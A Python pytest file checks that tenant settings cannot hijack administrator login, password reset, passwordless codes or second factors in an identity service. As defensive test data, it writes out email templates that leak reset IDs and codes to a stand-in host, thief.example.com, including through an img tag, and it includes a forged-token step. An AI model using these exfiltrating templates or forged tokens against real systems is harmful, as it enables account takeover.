"""The settings of a tenant do not decide how administrators sign in and recover, whoever changes them."""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import urllib.parse
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import structlog

from identity import app
from identity.app import ADMINISTRATOR_APPLICATION_ID
from identity.domain.configuration import administrator_roles
from identity.ids import new_id
from identity.operations.configuration import bootstrap
from tests import connectors, fake_provider, internals, plain_http, relying_party, two_factor
from tests.conftest import DEFAULT_TENANT, MANAGER_KEY, SUPER_KEY, Build, ShiftedClock
from tests.console import administrator
from tests.console.administrator import PASSWORD, Browser, Page
from tests.fake_provider import FakeProvider
from tests.hosted.steps import make_template
from tests.hosted.test_passkeys import add as add_passkey
from tests.hosted.test_passkeys import form_of, options_of, submit
from tests.mailbox import Mailbox, receiving
from tests.ports import free_port
from tests.receiver import Receiver, answers
from tests.relying_party import REDIRECT_URI, RelyingParty

Document = dict[str, Any]

TENANT = f"/api/tenant/{DEFAULT_TENANT}"
ALLOWED = frozenset({200, 202, 204})
STOLEN = "https://thief.example.com/?id="
MARK = "a template of the tenant"
CALLERS = ("tenant key", "PATCH /api/tenant", "tenant-admin", "developer")
HOLDERS = {"headers": {"X-FusionAuth-TenantId": DEFAULT_TENANT}, "timeout": 30}


@pytest.fixture(scope="module")
def mail_port() -> int:
    """The port of the mail server of the console."""
    return free_port()


@pytest.fixture(scope="module")
async def service(build: Build, session_clock: ShiftedClock, mail_port: int) -> AsyncIterator[app.Service]:
    """A service of this module, whose default tenant is changed, with a mail server for the console."""
    mail = {"host": "127.0.0.1", "port": mail_port, "security": "NONE", "from_email": "console@example.com"}
    async with build(clock=session_clock, **{f"console_email__{name}": value for name, value in mail.items()}) as one:
        yield one


@pytest.fixture
async def console_box(mail_port: int) -> AsyncIterator[Mailbox]:
    """The mail server of the console."""
    async with receiving(port=mail_port) as box:
        yield box


@pytest.fixture
async def thief() -> AsyncIterator[Mailbox]:
    """The mail server of somebody who may change the tenant."""
    async with receiving() as box:
        yield box


@pytest.fixture(autouse=True)
async def _restored(api: httpx.AsyncClient) -> AsyncIterator[None]:
    """Restore the default tenant after each test."""
    before = (await api.get(TENANT)).json()["tenant"]
    yield
    answer = await api.put(TENANT, json={"tenant": before})
    assert answer.status_code == 200, answer.text


@pytest.fixture
async def anonymous(service: app.Service) -> AsyncIterator[httpx.AsyncClient]:
    async with plain_http.client(service.base_url, timeout=30) as http:
        yield http


@pytest.fixture
async def user(api: httpx.AsyncClient) -> Document:
    """An administrator."""
    return await administrator.make(api, "admin")


@pytest.fixture
async def rp(api: httpx.AsyncClient) -> RelyingParty:
    """An application of the default tenant."""
    tenant = (await api.get(TENANT)).json()["tenant"]
    found = await relying_party.make(api, tenant=tenant)
    members = {"loginConfiguration": {"requireAuthentication": False}, "passwordlessConfiguration": {"enabled": True}}
    await found.patch(f"/api/application/{found.client_id}", {"application": members})
    return found


@pytest.fixture(params=CALLERS)
async def caller(request: Any, service: app.Service) -> AsyncIterator[httpx.AsyncClient]:
    """The API with a key that has exactly what a lesser caller may do."""
    async with holder(service, request.param) as http:
        yield http


@contextlib.asynccontextmanager
async def holder(service: app.Service, kind: str) -> AsyncIterator[httpx.AsyncClient]:
    if kind == "tenant key":
        key: Document = {"tenantId": DEFAULT_TENANT}
    elif kind == "PATCH /api/tenant":
        key = {"permissions": {"endpoints": {"/api/tenant": ["PATCH"]}}}
    else:
        data = {"tenantId": DEFAULT_TENANT} if kind == "tenant-admin" else {}
        registration = {"applicationId": ADMINISTRATOR_APPLICATION_ID, "roles": [kind], "data": data}
        authority = administrator_roles.of_user({"registrations": [registration], "tenantId": DEFAULT_TENANT})
        assert authority is not None
        key = {"permissions": {"endpoints": {name: verbs for name, verbs in authority.permissions.items() if verbs}}}
        key |= {} if authority.tenant_id is None else {"tenantId": authority.tenant_id}
    async with plain_http.client(service.base_url, **HOLDERS) as http:
        made = await http.post("/api/api-key", json={"apiKey": key}, headers={"Authorization": MANAGER_KEY})
        assert made.status_code == 200, made.text
        http.headers["Authorization"] = made.json()["apiKey"]["key"]
        yield http


async def patch(caller: httpx.AsyncClient, path: str, body: Document) -> bool:
    """Change something as far as the caller may; return whether it may."""
    answer = await caller.patch(path, json=body, headers={"Content-Type": "application/merge-patch+json"})
    assert answer.status_code in {*ALLOWED, 401}, answer.text
    return answer.status_code in ALLOWED


async def set_up(service: app.Service, tenant: Document) -> None:
    """Change the tenant with all permissions: what is not the route under test."""
    async with plain_http.client(service.base_url, headers={"Authorization": SUPER_KEY}, timeout=30) as api:
        assert await patch(api, TENANT, {"tenant": tenant})


def is_login_page(answer: httpx.Response) -> bool:
    return answer.url.path == "/oauth2/authorize" and 'type="password"' in answer.text


async def enters(http: httpx.AsyncClient) -> bool:
    """Return whether a browser has a way into the console without credentials."""
    return (await Browser(http).open(administrator.QUIET)).url.path == administrator.QUIET


async def log_in_at(rp: RelyingParty, http: httpx.AsyncClient, user: Document) -> httpx.Response:
    """Log in at the application with the password."""
    return await rp.submit(http, await rp.authorize(http), loginId=user["email"], password=PASSWORD)


async def request_reset(http: httpx.AsyncClient, user: Document, client_id: str = ADMINISTRATOR_APPLICATION_ID) -> None:
    query = {"client_id": client_id, "tenantId": DEFAULT_TENANT}
    shown = await http.get("/password/forgot", params=query)
    forms = [form for form in Page(shown).forms if "loginId" in form["fields"]]
    if forms:
        action = urllib.parse.urljoin(str(shown.url), forms[0]["action"] or "/password/forgot")
        answer = await http.post(action, data={**forms[0]["fields"], "loginId": user["email"]})
        assert answer.status_code == 302, answer.text


# Mails and messages


@pytest.mark.requirement("console-25")
async def test_mail_server_of_the_tenant_gets_no_reset(
    service, caller, anonymous, api, user, rp, console_box, thief
) -> None:
    template_id = await make_template(api, STOLEN + "${changePasswordId}")
    email = thief.configuration(forgotPasswordEmailTemplateId=template_id)
    if not await patch(
        caller, TENANT, {"tenant": {"emailConfiguration": email, "baseURL": "https://thief.example.com"}}
    ):
        await set_up(service, {"emailConfiguration": email})
    await request_reset(anonymous, user, rp.client_id)
    (mail,) = await console_box.wait_for(1)
    assert mail.sender == "console@example.com"
    assert mail.recipients == [user["email"]]
    text = mail.part("plain")
    assert "thief" not in text + mail.part("html")
    link = re.search(r"http\S+/password/change/\S+", text)
    assert link is not None
    assert link[0].startswith(f"{service.base_url}/password/change/")
    assert f"client_id={ADMINISTRATOR_APPLICATION_ID}" in link[0]
    shown = await anonymous.get(link[0])
    form = Page(shown).forms[0]
    data = {**form["fields"], "password": "a new horse battery", "passwordConfirm": "a new horse battery"}
    changed = await anonymous.post(urllib.parse.urljoin(str(shown.url), form["action"] or str(shown.url)), data=data)
    assert changed.status_code == 302, changed.text
    assert (
        await Browser(anonymous).sign_in(user["email"], administrator.QUIET, "a new horse battery")
    ).status_code == 200
    assert not thief.mails


@pytest.mark.requirement("console-25")
async def test_reset_template_is_not_that_of_the_tenant(service, caller, anonymous, api, user, console_box) -> None:
    template_id = await make_template(api, "harmless")
    change = {"emailTemplate": {"defaultHtmlTemplate": f"<img src='{STOLEN}${{changePasswordId}}'>"}}
    if not await patch(caller, f"/api/email/template/{template_id}", change):
        assert await patch(api, f"/api/email/template/{template_id}", change)
    await set_up(service, {"emailConfiguration": {"host": "127.0.0.1", "forgotPasswordEmailTemplateId": template_id}})
    answer = await anonymous.post(
        "/api/user/forgot-password",
        json={"loginId": user["email"], "applicationId": ADMINISTRATOR_APPLICATION_ID},
        headers={"X-FusionAuth-TenantId": DEFAULT_TENANT},
    )
    assert answer.status_code in {200, 403}
    await request_reset(anonymous, user)
    (mail, *_) = await console_box.wait_for(1)
    assert "thief" not in mail.part("html")


@pytest.mark.requirement("console-25")
async def test_passwordless_template_and_generator_are_not_those_of_the_tenant(
    service, caller, anonymous, api, user, rp, console_box, thief
) -> None:
    template_id = await make_template(api, STOLEN + "${code}")
    change = {
        "emailConfiguration": thief.configuration(passwordlessEmailTemplateId=template_id),
        "externalIdentifierConfiguration": {"passwordlessLoginGenerator": {"length": 4, "type": "randomDigits"}},
    }
    if not await patch(caller, TENANT, {"tenant": change}):
        await set_up(service, change)
    request = {"applicationId": rp.client_id, "loginId": user["email"], "state": {}}
    assert (await anonymous.post("/api/passwordless/send", json=request)).status_code == 200
    (mail,) = await console_box.wait_for(1)
    assert "thief" not in mail.part("plain")
    code = re.search(r"/oauth2/passwordless/([^?\s]+)", mail.part("plain"))
    assert code is not None
    assert len(code[1]) > 20
    assert not thief.mails


@pytest.mark.requirement("console-25")
async def test_codes_are_sent_neither_by_messenger_nor_by_the_tenant(
    service, caller, anonymous, api, rp, console_box, thief, receiver: Receiver
) -> None:
    methods = [
        {"method": "sms", "mobilePhone": "+15555550100"},
        {"method": "email", "email": f"{new_id()}@example.com"},
    ]
    user = await administrator.make(api, "admin")
    assert await patch(api, f"/api/user/{user['id']}", {"user": {"twoFactor": {"methods": methods}}})
    rp.user = user
    await two_factor.enable_sms(rp, receiver.url)
    change = {"emailConfiguration": thief.configuration(), "multiFactorConfiguration": {"loginPolicy": "Enabled"}}
    if not await patch(caller, TENANT, {"tenant": change}):
        await set_up(service, change)
    body = {"loginId": user["email"], "password": PASSWORD, "applicationId": rp.client_id}
    held = (await anonymous.post("/api/login", json=body)).json()
    by_kind = {method["method"]: method["id"] for method in held["methods"]}
    path = f"/api/two-factor/send/{held['twoFactorId']}"
    assert (await anonymous.post(path, json={"methodId": by_kind["sms"]})).status_code == 400
    assert (await anonymous.post(path, json={"methodId": by_kind["email"]})).status_code == 200
    (mail,) = await console_box.wait_for(1)
    assert mail.sender == "console@example.com"
    assert not thief.mails
    assert not receiver.requests


@pytest.mark.requirement("console-25")
async def test_notices_are_built_in_mails_of_the_console(service, caller, api, user, console_box, thief) -> None:
    template_id = await make_template(api, STOLEN)
    email = thief.configuration(passwordUpdateEmailTemplateId=template_id)
    if not await patch(caller, TENANT, {"tenant": {"emailConfiguration": email}}):
        await set_up(service, {"emailConfiguration": email})
    assert await patch(api, f"/api/user/{user['id']}", {"user": {"password": "a new horse battery"}})
    (mail,) = await console_box.wait_for(1)
    assert mail.recipients == [user["email"]]
    assert "administrator account" in str(mail.message["Subject"])
    assert not thief.mails


@pytest.mark.requirement("console-25")
async def test_without_a_mail_server_of_the_console_nothing_is_sent(
    build: Build, session_clock: ShiftedClock, thief: Mailbox
) -> None:
    async with (
        build(clock=session_clock) as other,
        plain_http.client(other.base_url, headers={"Authorization": SUPER_KEY}, timeout=30) as api,
        plain_http.client(other.base_url, timeout=30) as anonymous,
    ):
        user, template_id = await administrator.make(api, "admin"), await make_template(api, STOLEN)
        email = thief.configuration(forgotPasswordEmailTemplateId=template_id)
        assert await patch(api, TENANT, {"tenant": {"emailConfiguration": email}})
        ordinary = await relying_party.make_user(api, DEFAULT_TENANT)
        party = await relying_party.make(api, tenant=(await api.get(TENANT)).json()["tenant"])
        await request_reset(anonymous, user, party.client_id)
        await request_reset(anonymous, ordinary, party.client_id)
        (mail,) = await thief.wait_for(1)
        assert mail.recipients == [ordinary["email"]]
        async with asyncio.timeout(60):
            while True:
                params = {"message": "*console_email.host is not set*"}
                found = await api.get("/api/system/event-log/search", params=params)
                if found.json()["total"]:
                    break
                await asyncio.sleep(0.05)
        assert "admin reset-password" in found.json()["eventLogs"][0]["message"]


@pytest.mark.requirement("console-25")
async def test_id_from_before_the_appointment_does_not_set_the_password(api, rp) -> None:
    ordinary = await relying_party.make_user(api, DEFAULT_TENANT)
    body = {"loginId": ordinary["email"], "sendForgotPasswordEmail": False}
    headers = {"X-FusionAuth-TenantId": DEFAULT_TENANT}
    change_id = (await api.post("/api/user/forgot-password", json=body, headers=headers)).json()["changePasswordId"]
    assert (await api.get(f"/api/user/change-password/{change_id}")).status_code == 200
    await appoint(api, ordinary["id"])
    changed = await api.post(f"/api/user/change-password/{change_id}", json={"password": "another password"})
    assert changed.status_code == 404


async def appoint(api: httpx.AsyncClient, user_id: str) -> None:
    registration = {"registration": {"applicationId": ADMINISTRATOR_APPLICATION_ID, "roles": ["admin"]}}
    assert (await api.post(f"/api/user/registration/{user_id}", json=registration)).status_code == 200


@pytest.mark.requirement("console-25")
async def test_passwordless_code_from_before_the_appointment_is_none(api, anonymous, rp) -> None:
    request = {"applicationId": rp.client_id, "loginId": rp.user["email"]}
    first, second = [(await api.post("/api/passwordless/start", json=request)).json()["code"] for _ in range(2)]
    assert (await anonymous.post("/api/passwordless/login", json={"code": first})).status_code in ALLOWED
    await appoint(api, rp.user["id"])
    assert (await anonymous.post("/api/passwordless/login", json={"code": second})).status_code == 404
    third = (await api.post("/api/passwordless/start", json=request)).json()["code"]
    assert (await anonymous.post("/api/passwordless/login", json={"code": third})).status_code in ALLOWED


@pytest.mark.requirement("console-25")
@pytest.mark.parametrize("kind", ["verification", "revocation"])
async def test_change_of_address_from_before_the_appointment_has_no_effect(
    service, api, anonymous, rp, thief, kind
) -> None:
    await set_up(service, {"emailConfiguration": thief.configuration()})
    assert "code" in relying_party.response(await rp.submit(anonymous, await rp.authorize(anonymous)))
    shown = await Browser(anonymous).open(f"/account/edit?client_id={rp.client_id}&tenantId={DEFAULT_TENANT}")
    form = next(form for form in Page(shown).forms if "user.email" in form["fields"])
    data = {**form["fields"], "user.email": f"{new_id()}@thief.example.com", "currentPassword": PASSWORD}
    answer = await anonymous.post(urllib.parse.urljoin(str(shown.url), form["action"]), data=data)
    assert answer.status_code == 302, answer.text
    text = "".join(mail.part("plain") for mail in await thief.wait_for(2))
    verification = re.search(r"http\S+/email/verify/\S+", text)
    revocation = re.search(r"http\S+/email/revoke-change/\S+", text)
    assert verification is not None
    assert revocation is not None
    path = f"/api/user/{rp.user['id']}"
    if kind == "revocation":
        await confirm(anonymous, verification[0])
        assert (await api.get(path)).json()["user"]["email"] == data["user.email"]
    before = (await api.get(path)).json()["user"]["email"]
    await appoint(api, rp.user["id"])
    await confirm(anonymous, (verification if kind == "verification" else revocation)[0])
    assert (await api.get(path)).json()["user"]["email"] == before


async def confirm(http: httpx.AsyncClient, link: str) -> None:
    """Open the link of a mail, and press the button of its page, if there is one."""
    shown = await http.get(link)
    for form in Page(shown).forms:
        if form["method"] == "post":
            await http.post(urllib.parse.urljoin(str(shown.url), form["action"]), data=form["fields"])


@pytest.mark.requirement("console-25")
async def test_interrupted_login_from_before_the_appointment_does_not_continue(
    service, api, anonymous, rp, clock
) -> None:
    await set_up(service, {"multiFactorConfiguration": {"loginPolicy": "Required"}})
    shown = await Browser(anonymous).follow(await rp.submit(anonymous, await rp.authorize(anonymous)))
    assert shown.url.path == "/oauth2/two-factor-enable"
    clock.advance(seconds=1)
    await appoint(api, rp.user["id"])
    again = await Browser(anonymous).open(str(shown.url))
    assert again.url.path != "/oauth2/two-factor-enable" or 'type="password"' in again.text


# The login page


@pytest.mark.requirement("console-25")
async def test_page_template_of_a_theme_is_not_shown(service, caller, anonymous, api) -> None:
    theme = {
        "theme": {"name": new_id(), "pageTemplates": {"login": f"<p>{MARK}</p>"}, "stylesheet": "body { color: red }"}
    }
    theme_id = (await api.post("/api/theme", json=theme)).json()["theme"]["id"]
    if not await patch(caller, TENANT, {"tenant": {"themeId": theme_id}}):
        await set_up(service, {"themeId": theme_id})
    for path in ("/admin", f"/password/forgot?client_id={ADMINISTRATOR_APPLICATION_ID}"):
        shown = await Browser(anonymous).open(path)
        assert shown.status_code == 200
        assert MARK not in shown.text
        assert theme_id not in shown.text
    assert is_login_page(await Browser(anonymous).open("/admin"))


@pytest.mark.requirement("console-25")
async def test_captcha_policy_and_lambda_of_the_tenant_do_not_decide_the_login(
    service, caller, anonymous, api, user
) -> None:
    refusal = "result.errors.generalErrors = [{code: 'no', message: 'no'}];"
    body = f"function validate(result, user, registration, context) {{ {refusal} }}"
    made = await api.post("/api/lambda", json={"lambda": {"name": new_id(), "type": "LoginValidation", "body": body}})
    change = {
        "captchaConfiguration": {"enabled": True, "siteKey": "a", "secretKey": "b"},
        "multiFactorConfiguration": {"loginPolicy": "Required"},
        "lambdaConfiguration": {"loginValidationId": made.json()["lambda"]["id"]},
        "loginConfiguration": {"requireAuthentication": True},
        "httpSessionMaxInactiveInterval": 0,
    }
    if not await patch(caller, TENANT, {"tenant": change}):
        await set_up(service, change)
    assert (await Browser(anonymous).sign_in(user["email"], administrator.QUIET)).url.path == administrator.QUIET


@pytest.mark.requirement("console-25")
async def test_second_factor_is_required_whatever_the_tenant_says(service, caller, anonymous, api, clock) -> None:
    user = await administrator.make(api, "admin")
    methods = {"user": {"twoFactor": {"methods": [two_factor.authenticator()]}}}
    assert await patch(api, f"/api/user/{user['id']}", methods)
    change = {"multiFactorConfiguration": {"loginPolicy": "Disabled", "authenticator": {"enabled": False}}}
    if not await patch(caller, TENANT, {"tenant": change}):
        await set_up(service, change)
    shown = await Browser(anonymous).sign_in(user["email"], administrator.QUIET)
    assert shown.url.path == "/oauth2/two-factor"
    form = next(form for form in Page(shown).forms if "code" in form["fields"])
    data = {**form["fields"], "code": two_factor.code(clock.now())}
    answer = await anonymous.post(urllib.parse.urljoin(str(shown.url), form["action"]), data=data)
    assert (await Browser(anonymous).follow(answer)).url.path == administrator.QUIET


@pytest.mark.requirement("console-25")
async def test_passkey_signs_in(service, anonymous, api, user) -> None:
    on = {"enabled": True}
    await set_up(service, {"webAuthnConfiguration": {**on, "bootstrapWorkflow": on, "reauthenticationWorkflow": on}})
    api.headers["X-FusionAuth-TenantId"] = DEFAULT_TENANT
    passkey = await add_passkey(api, user["id"], service.base_url)
    form = form_of(await Browser(anonymous).open(administrator.QUIET))
    assert form is not None
    answer = await submit(anonymous, form, passkey.get(await options_of(anonymous, form)))
    assert (await Browser(anonymous).follow(answer)).url.path == administrator.QUIET


@pytest.mark.requirement("console-25")
async def test_administrator_of_a_published_kickstart_signs_in(build: Build, session_clock: ShiftedClock) -> None:
    kickstart = {
        "variables": {"adminEmail": "admin@example.com", "adminPassword": "password", "adminUserId": new_id()},
        "apiKeys": [{"key": SUPER_KEY}],
        "requests": [
            {
                "method": "POST",
                "url": "/api/user/registration/#{adminUserId}",
                "body": {
                    "user": {"email": "#{adminEmail}", "password": "#{adminPassword}"},
                    "registration": {"applicationId": "#{FUSIONAUTH_APPLICATION_ID}", "roles": ["admin"]},
                },
            }
        ],
    }
    async with (
        build(clock=session_clock, kickstart=json.dumps(kickstart)) as other,
        plain_http.client(other.base_url, timeout=30) as http,
    ):
        shown = await Browser(http).sign_in("admin@example.com", administrator.QUIET, "password")
        assert shown.url.path == administrator.QUIET


# Sessions, tokens and methods of others


@pytest.mark.requirement("console-25")
async def test_session_of_another_application_does_not_open_the_console(anonymous, user, rp) -> None:
    assert "code" in relying_party.response(await log_in_at(rp, anonymous, user))
    assert "code" in relying_party.response(await rp.authorize(anonymous))
    assert is_login_page(await Browser(anonymous).open("/admin"))
    assert (await Browser(anonymous).sign_in(user["email"], administrator.QUIET)).url.path == administrator.QUIET
    assert "code" in relying_party.response(await rp.authorize(anonymous, prompt="none"))


@pytest.mark.requirement("console-25")
async def test_account_page_of_an_administrator_is_that_of_the_console(anonymous, user, rp) -> None:
    assert "code" in relying_party.response(await log_in_at(rp, anonymous, user))
    shown = await Browser(anonymous).open(f"/account/two-factor?client_id={rp.client_id}")
    assert is_login_page(shown)
    assert dict(urllib.parse.parse_qsl(shown.url.query.decode()))["client_id"] == ADMINISTRATOR_APPLICATION_ID
    form = next(form for form in Page(shown).forms if "password" in form["fields"])
    data = {**form["fields"], "loginId": user["email"], "password": PASSWORD}
    answer = await anonymous.post(urllib.parse.urljoin(str(shown.url), form["action"]), data=data)
    assert (await Browser(anonymous).follow(answer)).url.path == "/account/two-factor"


@pytest.mark.requirement("console-25")
async def test_session_from_before_the_appointment_is_none(anonymous, api, rp, clock) -> None:
    assert "code" in relying_party.response(await rp.submit(anonymous, await rp.authorize(anonymous)))
    clock.advance(seconds=1)
    await appoint(api, rp.user["id"])
    assert relying_party.response(await rp.authorize(anonymous, prompt="none"))["error"] == "login_required"
    assert is_login_page(await Browser(anonymous).open("/admin"))


@pytest.fixture
async def fake(session_clock: ShiftedClock) -> AsyncIterator[FakeProvider]:
    async with fake_provider.providing(session_clock) as provider:
        yield provider


def provider_of(fake: FakeProvider, *application_ids: str, **members: Any) -> Document:
    configurations = {one: {"enabled": True, "createRegistration": True} for one in application_ids}
    oauth2 = {
        "client_id": fake.client_id,
        "client_secret": "s",
        "issuer": fake.issuer,
        "clientAuthenticationMethod": "client_secret_post",
    }
    return {
        "identityProvider": {
            "type": "OpenIDConnect", "name": new_id(), "enabled": True, "oauth2": oauth2,
            "applicationConfiguration": configurations, "linkingStrategy": "LinkByEmail", **members,
        }
    }  # fmt: skip


@pytest.mark.requirement("console-25")
@pytest.mark.parametrize("kind", ["tenant key", "tenant-admin", "developer"])
async def test_provider_does_not_sign_in_as_an_administrator(service, anonymous, api, user, rp, fake, kind) -> None:
    async with holder(service, kind) as caller:
        body = provider_of(fake, rp.client_id, tenantId=DEFAULT_TENANT)
        made = await caller.post("/api/identity-provider", json=body)
        assert made.status_code == 200, made.text
        provider_id = made.json()["identityProvider"]["id"]
        link = {"identityProviderId": provider_id, "identityProviderUserId": "linked", "userId": user["id"]}
        headers = {"X-FusionAuth-TenantId": DEFAULT_TENANT}
        linked = await api.post("/api/identity-provider/link", json={"identityProviderLink": link}, headers=headers)
        assert linked.status_code == 200, linked.text
    for subject in ("stranger", "linked"):
        fake.userinfo = {"sub": subject, "email": user["email"], "email_verified": True}
        login = {
            "applicationId": rp.client_id,
            "identityProviderId": provider_id,
            "data": {"code": "the-code", "redirect_uri": REDIRECT_URI},
        }
        answer = await anonymous.post("/api/identity-provider/login", json=login)
        assert answer.status_code == 401, answer.text
        left = await rp.authorize(anonymous, idp_hint=provider_id)
        state = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(left.headers["Location"]).query))["state"]
        shown = await anonymous.get("/oauth2/callback", params={"code": "the-code", "state": state})
        assert shown.status_code == 200
        assert 'type="password"' in shown.text
        assert not await enters(anonymous)


@pytest.mark.requirement("console-25")
async def test_provider_of_the_console_belongs_to_callers_with_all_permissions(
    service, caller, anonymous, api, user, fake
) -> None:
    reconcile = "function reconcile(user, registration, jwt) {}"
    made = await api.post(
        "/api/lambda", json={"lambda": {"name": new_id(), "type": "OpenIDReconcile", "body": reconcile}}
    )
    lambda_id = made.json()["lambda"]["id"]
    body = provider_of(
        fake, ADMINISTRATOR_APPLICATION_ID, tenantId=DEFAULT_TENANT, lambdaConfiguration={"reconcileId": lambda_id}
    )
    made = await api.post("/api/identity-provider", json=body)
    assert made.status_code == 200, made.text
    provider = made.json()["identityProvider"]
    path = f"/api/identity-provider/{provider['id']}"
    stripped = {"identityProvider": {**provider, "applicationConfiguration": {}}}
    for answer in (
        await caller.put(path, json=stripped),
        await caller.patch(path, json={"identityProvider": {"oauth2": {"issuer": "https://thief.example.com"}}}),
        await caller.delete(path),
        await caller.patch(f"/api/lambda/{lambda_id}", json={"lambda": {"body": reconcile + " "}}),
        await caller.put(
            f"/api/lambda/{lambda_id}", json={"lambda": {"name": "x", "type": "OpenIDReconcile", "body": reconcile}}
        ),
        await caller.delete(f"/api/lambda/{lambda_id}"),
    ):
        assert answer.status_code in {400, 401}, (answer.request.method, answer.url, answer.text)
    assert (await api.get(path)).json()["identityProvider"] == provider
    found = (await api.get(f"/api/lambda/{lambda_id}")).json()["lambda"]
    assert found["body"] == reconcile
    fake.userinfo = {"sub": new_id(), "email": user["email"], "email_verified": True}
    begun = await Browser(anonymous).open(administrator.QUIET)
    left = await anonymous.get(f"{begun.url}&idp_hint={provider['id']}")
    query = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(left.headers["Location"]).query))
    fake.id_claims = fake.claims(sub=fake.userinfo["sub"], nonce=query.get("nonce"))
    back = await anonymous.get("/oauth2/callback", params={"code": "the-code", "state": query["state"]})
    assert (await Browser(anonymous).follow(back)).url.path == administrator.QUIET
    assert (await api.delete(path)).status_code == 200


@pytest.mark.requirement("console-25")
@pytest.mark.parametrize("kind", ["Generic", "LDAP"])
async def test_connector_does_not_sign_in_an_administrator(service, anonymous, api, user, rp, receiver, kind) -> None:
    asked = asyncio.Event()

    async def connected(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        asked.set()
        writer.close()

    server = await asyncio.start_server(connected, "127.0.0.1", 0)
    async with server:
        connector = await make_connector(api, kind, receiver, server.sockets[0].getsockname()[1], user)
        policies = [{"connectorId": connector, "domains": ["*"], "migrate": False}]
        await set_up(service, {"connectorPolicies": policies})
        users = internals.store(service, "users")
        await users.update(DEFAULT_TENANT, {"_id": user["id"]}, {"$set": {"connectorId": connector}})
        body = {"loginId": user["email"], "password": connectors.PASSWORD, "applicationId": rp.client_id}
        assert (await anonymous.post("/api/login", json=body)).status_code == 404
        shown = await Browser(anonymous).sign_in(user["email"], administrator.QUIET, connectors.PASSWORD)
        assert is_login_page(shown)
        # The console asks no connector about strangers either: it would see what is typed.
        assert is_login_page(await Browser(anonymous).sign_in(f"{new_id()}@example.com", administrator.QUIET))
        assert (await Browser(anonymous).sign_in(user["email"], administrator.QUIET)).url.path == administrator.QUIET
        assert not asked.is_set()
        assert not receiver.requests


async def make_connector(api: httpx.AsyncClient, kind: str, receiver: Receiver, port: int, user: Document) -> str:
    """A connector that accepts every password for the administrator, or an LDAP directory that counts connections."""
    if kind == "Generic":
        body = f'{{"user": {{"id": "{user["id"]}", "email": "{user["email"]}", "active": true}}}}'
        receiver.behaviour = answers(200, body.encode())
        return await connectors.make(api, connectors.generic(receiver.url))
    reconcile = {"name": new_id(), "type": "LDAPConnectorReconcile", "body": "function reconcile(user, attributes) {}"}
    made = await api.post("/api/lambda", json={"lambda": reconcile})
    ldap = {
        "type": "LDAP", "name": new_id(), "authenticationURL": f"ldap://127.0.0.1:{port}", "securityMethod": "None",
        "baseStructure": "dc=example,dc=com", "connectTimeout": 1000, "readTimeout": 2000,
        "identifyingAttribute": "uid", "loginIdAttribute": "mail", "requestedAttributes": ["uid", "mail"],
        "systemAccountDN": "cn=reader", "systemAccountPassword": "p",
        "lambdaConfiguration": {"reconcileId": made.json()["lambda"]["id"]},
    }  # fmt: skip
    return await connectors.make(api, ldap)


@pytest.mark.requirement("console-25")
async def test_connector_cannot_assert_an_administrator(service, anonymous, api, user, rp, receiver) -> None:
    connector = await make_connector(api, "Generic", receiver, 0, user)
    users = internals.store(service, "users")
    await users.update(DEFAULT_TENANT, {"_id": user["id"]}, {"$set": {"connectorId": new_id()}})
    await set_up(service, {"connectorPolicies": [{"connectorId": connector, "domains": ["*"], "migrate": True}]})
    body = {"loginId": f"{new_id()}@example.com", "password": "anything", "applicationId": rp.client_id}
    assert (await anonymous.post("/api/login", json=body)).status_code == 404
    assert receiver.requests
    assert (await Browser(anonymous).sign_in(user["email"], administrator.QUIET)).url.path == administrator.QUIET


@pytest.mark.requirement("console-25")
async def test_token_of_an_imported_key_is_no_login(service, anonymous, api, user, rp, clock) -> None:
    await set_up(service, {"ssoConfiguration": {"allowAccessTokenBootstrap": True}})
    body = {"loginId": user["email"], "password": PASSWORD, "applicationId": rp.client_id}
    token = (await anonymous.post("/api/login", json=body)).json()["token"]
    issuer, tenants = internals.store(service, "issuer"), internals.store(service, "tenants")
    tenant = await tenants.get(None, DEFAULT_TENANT)
    forged = {**relying_party.claims(token), "authenticationType": "PASSWORD", "auth_time": clock.now() // 1000}
    # Who imported the signing key of a tenant can sign the same.
    token = str(await issuer.sign(tenant["jwtConfiguration"]["accessTokenKeyId"], forged, tenant))
    bearer = {"Authorization": f"Bearer {token}"}
    methods = {"method": "authenticator", "code": two_factor.code(clock.now()), "secret": two_factor.SECRET}
    for answer in (
        await anonymous.post(f"/api/user/two-factor/{user['id']}", json=methods, headers=bearer),
        await anonymous.post(
            "/api/user/change-password", json={"currentPassword": PASSWORD, "password": "x" * 12}, headers=bearer
        ),
    ):
        assert answer.status_code == 401, answer.text
    assert not (await api.get(f"/api/user/{user['id']}")).json()["user"]["twoFactor"]["methods"]
    begun = await anonymous.get("/oauth2/authorize", params=rp.query(), headers=bearer)
    assert begun.status_code == 200
    assert not await enters(anonymous)


@pytest.mark.requirement("console-25")
async def test_ping_of_an_administrator_yields_no_token(service, caller, api, user, rp) -> None:
    for application_id in (ADMINISTRATOR_APPLICATION_ID, rp.client_id):
        body = {"userId": user["id"], "applicationId": application_id}
        assert (await caller.put("/api/login", json=body)).status_code == 401
        assert (await api.put("/api/login", json=body)).status_code in ALLOWED


# Roles


@pytest.mark.requirement("console-25")
async def test_tenant_administrator_needs_the_tenant(anonymous, api) -> None:
    user = await administrator.make(api, "tenant-admin", data={})
    shown = await Browser(anonymous).sign_in(user["email"], administrator.QUIET)
    assert shown.status_code == 403
    named = await administrator.make(api, "tenant-admin", data={"tenantId": DEFAULT_TENANT})
    async with plain_http.client(str(anonymous.base_url), timeout=30) as http:
        assert (await Browser(http).sign_in(named["email"], administrator.QUIET)).status_code == 200


@pytest.mark.requirement("console-25")
async def test_start_names_tenant_administrators_without_a_tenant(service: app.Service, api: httpx.AsyncClient) -> None:
    user = await administrator.make(api, "tenant-admin", data={})
    named = await administrator.make(api, "tenant-admin", data={"tenantId": DEFAULT_TENANT})
    with structlog.testing.capture_logs() as logs:
        await internals.run(service, bootstrap.ensure, internals.call(service))
    warned = {entry["user_id"] for entry in logs if "tenant-admin" in entry["event"]}
    assert user["id"] in warned
    assert named["id"] not in warned
